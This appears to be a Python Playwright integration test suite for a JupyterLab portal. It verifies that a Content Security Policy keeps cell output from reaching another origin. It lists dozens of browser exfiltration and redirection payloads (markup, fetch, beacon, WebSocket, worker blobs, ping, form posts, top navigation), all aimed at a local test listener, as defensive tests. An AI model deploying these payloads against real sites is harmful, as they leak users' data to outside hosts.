"""What a cell's output can make a real browser send elsewhere: nothing, though each of the ways works on a page without our policy.

The output is shown by a real JupyterLab in a real session, in the portal's frame and under the gateway's headers. What
listens is another port of the same machine: another origin, that the policy has to keep out by itself.
"""

import re
import socket
import threading
import time
from contextlib import contextmanager

import pytest
from playwright.sync_api import expect

from tests.browser import in_a_browser
from tests.builders_lab import PATIENCE, at, kari

__all__ = ["at", "kari"]
pytestmark = [
    *in_a_browser,
    pytest.mark.integration,
    pytest.mark.timeout(600),
]
SETTLED = 1.5  # seconds without anything new, after which no more is waited for
MARKUP = {
    "img": "<img src='URL'>",
    "srcset": "<picture><source srcset='URL'><img></picture>",
    "stylesheet": "<link rel=stylesheet href='URL'>",
    "style-import": "<style>@import url('URL');</style>",
    "background": "<div style=\"background:url('URL')\">x</div>",
    "font": "<style>@font-face{font-family:leak;src:url('URL')}</style><p style='font-family:leak'>font</p>",
    "prefetch": "<link rel=prefetch href='URL'>",
    "preload": "<link rel=preload as=image href='URL'>",
    "modulepreload": "<link rel=modulepreload href='URL'>",
    "iframe": "<iframe src='URL'></iframe>",
    "srcdoc": "<iframe srcdoc=\"<img src='URL'>\"></iframe>",
    "object": "<object data='URL' type='image/png'></object>",
    "embed": "<embed src='URL' type='image/png'>",
    "video": "<video src='URL' preload=auto></video>",
    "poster": "<video poster='URL'></video>",
    "audio": "<audio src='URL' preload=auto></audio>",
    "svg-image": "<svg><image href='URL' width=9 height=9 /></svg>",
    "input-image": "<input type=image src='URL'>",
}
SCRIPT = {
    "fetch": "fetch('URL', {mode: 'no-cors'}).catch(() => 0)",
    "fetch-keepalive": "fetch('URL', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'URL'); x.send()",
    "beacon": "navigator.sendBeacon('URL', 'x')",
    "websocket": "new WebSocket('URL'.replace('http', 'ws'))",
    "eventsource": "new EventSource('URL')",
    "script": "document.head.appendChild(Object.assign(document.createElement('script'), {src: 'URL'}))",
    "import": "import('URL').catch(() => 0)",
    "worker-blob": "new Worker(URL.createObjectURL(new Blob([`fetch('URL', {mode: 'no-cors'})`])))".replace(
        "URL.create", "window.URL.create"
    ),
    "blob-frame": "document.body.appendChild(Object.assign(document.createElement('iframe'), {src: window.URL.createObjectURL(new Blob([`<img src='URL'>`], {type: 'text/html'}))}))",
    "data-frame": "document.body.appendChild(Object.assign(document.createElement('iframe'), {src: `data:text/html,<img src='URL'>`}))",
    "ping": "const a = Object.assign(document.createElement('a'), {href: '#leak', ping: 'URL'}); document.body.appendChild(a); a.click()",
    "form-in-frame": "document.body.insertAdjacentHTML('beforeend', `<iframe name=sink></iframe><form id=leak method=post target=sink action='URL'><input name=a value=b></form>`); document.getElementById('leak').submit()",
}
NAVIGATES = {
    "location": "location.href = 'URL'",
    "replace": "location.replace('URL')",
    "meta-refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=URL'>`)",
    "form": "document.body.insertAdjacentHTML('beforeend', `<form id=go method=post action='URL'></form>`); document.getElementById('go').submit()",
}
TOPS = {
    "window.open": "window.open('URL')",
    "top.location": "try { top.location.href = 'URL' } catch (e) {}",
    "parent.location": "try { parent.location.replace('URL') } catch (e) {}",
}
CLICKED = {
    "link-top": "<a class=leak target=_top href='URL'>top</a>",
    "link-blank": "<a class=leak target=_blank href='URL'>blank</a>",
    "link-ping": "<a class=leak href='#here' ping='URL'>ping</a>",
    "form-blank": "<form target=_blank action='URL'><button class=leak>form</button></form>",
    "form-top": "<form target=_top action='URL'><button class=leak>form</button></form>",
}


class Outside:
    """A server that keeps what it was asked for, and answers with nothing; except for `/plain`, a page without any policy."""

    def __init__(self):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.asked, self.last, self.shows = set(), time.monotonic(), ""
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                caller, _address = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(caller,), daemon=True).start()

    def _answer(self, caller):
        with caller:
            caller.settimeout(5)
            try:
                head = caller.recv(65536).decode("latin-1")
            except OSError:
                head = ""
            words = head.split(" ")
            if words[1:] and words[1] == "/plain":
                page = b"<!doctype html><title>plain</title><body>" + self.shows.encode()
                caller.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n" + page)
                return
            self.asked.add(words[1].strip("/").partition("?")[0] if words[1:] else "a connection without a question")
            self.last = time.monotonic()
            caller.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")

    def settled(self, since, expected=frozenset()):
        """Wait until all that is expected has come, and then nothing for a while; return what was asked for."""
        while time.monotonic() - max(self.last, since) < SETTLED or not (
            expected <= self.asked or time.monotonic() - since > PATIENCE / 1000
        ):
            time.sleep(0.1)
        return self.asked - {"favicon.ico"}

    def ways(self, some):
        return {
            name: text.replace("'URL'", f"'{self.url}/{name}'").replace("url=URL", f"url={self.url}/{name}")
            for name, text in some.items()
        }

    def close(self):
        self.listener.close()


@pytest.fixture
def outside():
    listens = Outside()
    yield listens
    listens.close()


@contextmanager
def a_plain_page(chromium, shows=""):
    """Open a page of another origin that has no policy at all."""
    serves = Outside()
    serves.shows = shows
    page = chromium.new_context().new_page()
    page.goto(f"{serves.url}/plain")
    yield page
    page.context.close()
    serves.close()


def shown_plainly(chromium, outside, ways):
    """Do the same on a page without a policy, markup put in and scripts run, and return what was asked for."""
    with a_plain_page(chromium) as page:
        began = time.monotonic()
        for name, text in ways.items():
            if name in MARKUP:
                page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", text)
            else:
                page.evaluate("code => { new Function(code)() }", text)
        seen = set(outside.settled(began, set(ways)))
    outside.asked.clear()
    return seen


def said_in_cell(markup=(), scripts=()):
    """Return the code of a cell whose output has these."""
    shown = [f"display(HTML({text!r}))" for text in markup] + [f"display(Javascript({text!r}))" for text in scripts]
    return "\n".join(["from IPython.display import HTML, Javascript, display", *shown, "print('sh' + 'own')"])


def shown_in_lab(kari, code):
    output = kari.run(code)
    expect(output).to_contain_text("shown", timeout=PATIENCE)
    return output


@pytest.mark.attack("BR01")
def test_nothing_that_a_cell_shows_is_fetched_from_elsewhere(kari, chromium, outside):
    markup, scripts = outside.ways(MARKUP), outside.ways(SCRIPT)
    assert shown_plainly(chromium, outside, markup | scripts) == set(markup | scripts)

    kari.new_notebook()
    began = time.monotonic()
    shown_in_lab(kari, said_in_cell(markup.values(), scripts.values()))

    assert outside.settled(began) == set()
    refused = [line for line in kari.said if "Content Security Policy" in line]
    assert len(refused) >= len(MARKUP), kari.said  # it was tried, and the browser says what kept it


@pytest.mark.attack("BR01")
@pytest.mark.parametrize(
    "way",
    [pytest.param(way, marks=[] if way in {"location", "meta-refresh"} else pytest.mark.slow) for way in NAVIGATES],
)
def test_a_cell_cannot_lead_the_frame_elsewhere(kari, chromium, outside, way):
    (code,) = outside.ways({way: NAVIGATES[way]}).values()
    assert shown_plainly(chromium, outside, {way: code}) == {way}

    kari.new_notebook()
    began = time.monotonic()
    kari.cells.last.locator(".cm-content").click()
    kari.page.keyboard.insert_text(said_in_cell(scripts=[code]))
    kari.page.keyboard.press("Shift+Enter")
    while not any(re.search("Content Security Policy|violates", line) for line in kari.said):
        assert time.monotonic() - began < PATIENCE / 1000, kari.said
        kari.page.wait_for_timeout(100)

    assert outside.settled(began) == set()


@pytest.mark.attack("BR02")
def test_a_cell_opens_no_window_and_leads_the_page_nowhere_by_itself_or_by_a_click(kari, outside):
    kari.new_notebook()
    page, opened = kari.page, []
    kari.context.on("page", lambda one: opened.append(one.url))
    before, began = page.url, time.monotonic()
    output = shown_in_lab(kari, said_in_cell(outside.ways(CLICKED).values(), outside.ways(TOPS).values()))
    for number in range(len(CLICKED)):
        output.locator(".leak").nth(number).click()
        page.wait_for_timeout(300)

    assert outside.settled(began) == set()
    assert (page.url, opened) == (before, [])


@pytest.mark.attack("BR02")
def test_the_same_clicks_lead_elsewhere_from_a_page_without_a_policy(chromium, outside):
    for name, text in outside.ways(CLICKED).items():
        with a_plain_page(chromium, text) as page:
            began = time.monotonic()
            page.locator(".leak").click()
            assert name in outside.settled(began, {name})
